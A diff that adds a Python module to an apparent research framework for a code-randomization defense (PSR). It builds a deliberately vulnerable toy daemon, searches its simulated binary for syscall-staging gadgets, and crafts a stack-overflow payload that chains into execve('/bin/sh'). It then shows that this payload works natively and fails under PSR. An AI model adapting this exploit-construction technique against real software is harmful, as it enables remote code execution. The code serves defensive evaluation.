@@ -1,0 +1,249 @@
+"""End-to-end exploit construction — the Figure 1 attack, executed.
+
+A complete ROP-style exploit against a vulnerable network daemon in the
+model: the victim reads attacker bytes into a fixed-size stack buffer
+(classic overflow), and the attacker's payload redirects the return into
+the victim's own syscall-marshalling code with a crafted stack, spawning
+``execve("/bin/sh")``.
+
+Run natively, the exploit succeeds deterministically — the attacker
+computes every offset from the binary, exactly as the threat model allows
+(complete disclosure, Section 4).  Run under PSR, the same payload fails:
+the buffer's distance to the return-address slot is randomized per
+process by the relocation map, so the overwrite lands in randomization
+space and the daemon simply keeps running.
+"""
+
+from __future__ import annotations
+
+import struct
+from dataclasses import dataclass, field
+from typing import Dict, List, Optional, Tuple
+
+from ..compiler import compile_minic
+from ..compiler.fatbinary import FatBinary
+from ..core.relocation import PSRConfig
+from ..core.runner import create_psr_process, run_native
+from ..isa import ISAS, Mem, Op, Reg
+from ..machine.process import Process
+
+#: the vulnerable daemon: reads a request into a 16-byte stack buffer
+#: with a 256-byte read — the canonical overflow
+VULNERABLE_SOURCE = """
+char greeting[24] = "vulnd: send request\\n";
+
+int log_line(int p, int n) {
+    return syscall(4, 1, p, n);
+}
+
+int handle_request() {
+    char buf[16];
+    int n;
+    n = syscall(3, 0, &buf, 256);
+    if (n <= 0) { return 0 - 1; }
+    return n;
+}
+
+int main() {
+    log_line(&greeting, 20);
+    handle_request();
+    return 0;
+}
+"""
+
+
+def build_vulnerable_binary() -> FatBinary:
+    return compile_minic(VULNERABLE_SOURCE)
+
+
+@dataclass
+class SyscallStaging:
+    """A located syscall-marshalling sequence — the exploit's one gadget.
+
+    The compiler stages syscall inputs on the stack and loads them into
+    the syscall registers immediately before trapping; jumping into the
+    first load with a crafted stack gives the attacker full control of
+    the syscall and its arguments (a return-into-syscall-stub attack).
+    """
+
+    entry_address: int
+    #: target register -> stack offset (relative to sp at entry)
+    register_slots: Dict[int, int]
+    syscall_address: int
+
+
+def find_syscall_staging(binary: FatBinary,
+                         isa_name: str = "x86like") -> List[SyscallStaging]:
+    """Locate every syscall staging sequence by disassembling the text."""
+    unit = binary.sections[isa_name]
+    isa = ISAS[isa_name]
+    stagings: List[SyscallStaging] = []
+    items = list(zip(unit.addresses, unit.instructions))
+    for index, (address, instruction) in enumerate(items):
+        if instruction.op is not Op.SYSCALL:
+            continue
+        slots: Dict[int, int] = {}
+        entry = address
+        walk = index - 1
+        while walk >= 0:
+            prev_address, prev = items[walk]
+            if (prev.op is Op.LOAD and isinstance(prev.operands[0], Reg)
+                    and isinstance(prev.operands[1], Mem)
+                    and prev.operands[1].base == isa.sp):
+                slots[prev.operands[0].index] = prev.operands[1].disp
+                entry = prev_address
+                walk -= 1
+                continue
+            break
+        if slots:
+            stagings.append(SyscallStaging(entry, slots, address))
+    return stagings
+
+
+@dataclass
+class ExploitPayload:
+    """The crafted bytes the attacker feeds to the daemon's read()."""
+
+    data: bytes
+    buffer_address: int
+    return_slot_address: int
+    staging: SyscallStaging
+    shell_string_address: int
+
+
+@dataclass
+class Reconnaissance:
+    """What the attacker learns from running their own copy of the victim."""
+
+    buffer_address: int
+    frame_base: int
+
+
+def reconnoiter(binary: FatBinary, isa_name: str = "x86like",
+                victim_function: str = "handle_request") -> Reconnaissance:
+    """Run the victim with benign input and observe the buffer address.
+
+    Legal under the threat model: the attacker has the binary and runs it
+    locally.  The READ syscall's buffer-pointer argument and the frame
+    base at function entry come straight out of the run.
+    """
+    process = Process(binary.to_process_image(), ISAS[isa_name])
+    process.os.reset(stdin=b"x")
+    info = binary.symtab.function(victim_function)
+    entry_block = info.per_isa[isa_name].block_addresses[
+        info.block_order[0]]
+    observed = {"base": None}
+
+    def observer(cpu, step_info):
+        # The victim function's first block executes with sp == frame base
+        # (its first instruction does not touch sp).
+        if (step_info.decoded.address == entry_block
+                and observed["base"] is None):
+            observed["base"] = cpu.sp
+
+    process.interpreter.observers.append(observer)
+    process.run(1_000_000)
+    read_events = [event for event in process.os.events
+                   if event.number == 3]
+    if not read_events or observed["base"] is None:
+        raise RuntimeError("reconnaissance failed to observe the read()")
+    return Reconnaissance(read_events[0].args[1], observed["base"])
+
+
+def build_exploit(binary: FatBinary, isa_name: str = "x86like",
+                  victim_function: str = "handle_request",
+                  shell: bytes = b"/bin/sh") -> ExploitPayload:
+    """Craft the overflow payload from static + reconnaissance knowledge."""
+    isa = ISAS[isa_name]
+    recon = reconnoiter(binary, isa_name, victim_function)
+    info = binary.symtab.function(victim_function)
+    saved = info.per_isa[isa_name].saved_registers
+    words_above = len(saved) + 1
+    return_slot = recon.frame_base + \
+        info.layout.return_address_offset(words_above)
+
+    stagings = find_syscall_staging(binary, isa_name)
+    execve_capable = [s for s in stagings
+                      if isa.syscall_number_reg in s.register_slots
+                      and isa.syscall_arg_regs[0] in s.register_slots]
+    if not execve_capable:
+        raise RuntimeError("no usable syscall staging found")
+    staging = execve_capable[0]
+
+    # Stack picture once the overwritten return executes:
+    #   sp = return_slot + 4; staging loads from [sp + slot_offset].
+    sp_after_return = return_slot + 4
+    chain_region_size = max(staging.register_slots.values()) + 4
+    shell_address = sp_after_return + chain_region_size
+
+    payload = bytearray(b"A" * (return_slot - recon.buffer_address))
+    payload += struct.pack("<I", staging.entry_address)
+    chain = bytearray(b"B" * chain_region_size)
+
+    def place(register: int, value: int) -> None:
+        offset = staging.register_slots.get(register)
+        if offset is not None:
+            chain[offset:offset + 4] = struct.pack("<I", value)
+
+    place(isa.syscall_number_reg, 11)              # execve
+    place(isa.syscall_arg_regs[0], shell_address)
+    if len(isa.syscall_arg_regs) > 1:
+        place(isa.syscall_arg_regs[1], 0)
+    if len(isa.syscall_arg_regs) > 2:
+        place(isa.syscall_arg_regs[2], 0)
+    payload += bytes(chain)
+    payload += shell + b"\x00"
+
+    return ExploitPayload(
+        data=bytes(payload),
+        buffer_address=recon.buffer_address,
+        return_slot_address=return_slot,
+        staging=staging,
+        shell_string_address=shell_address,
+    )
+
+
+@dataclass
+class AttackOutcome:
+    """What happened when the payload was delivered."""
+
+    shell_spawned: bool
+    crashed: bool
+    exit_reason: str
+    spawned: Tuple[bytes, ...]
+
+
+def attack_native(binary: FatBinary, payload: ExploitPayload,
+                  isa_name: str = "x86like") -> AttackOutcome:
+    """Deliver the payload to an unprotected victim."""
+    process = Process(binary.to_process_image(), ISAS[isa_name])
+    process.os.reset(stdin=payload.data)
+    result = process.run(1_000_000)
+    return AttackOutcome(
+        shell_spawned=process.os.shell_spawned,
+        crashed=result.crashed,
+        exit_reason=result.reason,
+        spawned=tuple(process.os.spawned),
+    )
+
+
+def attack_psr(binary: FatBinary, payload: ExploitPayload,
+               isa_name: str = "x86like",
+               config: Optional[PSRConfig] = None,
+               seed: int = 0) -> AttackOutcome:
+    """Deliver the same payload to a PSR-protected victim."""
+    process, vm = create_psr_process(binary, ISAS[isa_name], config, seed,
+                                     stdin=payload.data)
+    try:
+        result = process.run(5_000_000)
+        crashed = result.crashed
+        reason = result.reason
+    except Exception as error:          # SFI terminations count as caught
+        crashed = True
+        reason = type(error).__name__
+    return AttackOutcome(
+        shell_spawned=process.os.shell_spawned,
+        crashed=crashed,
+        exit_reason=reason,
+        spawned=tuple(process.os.spawned),
+    )
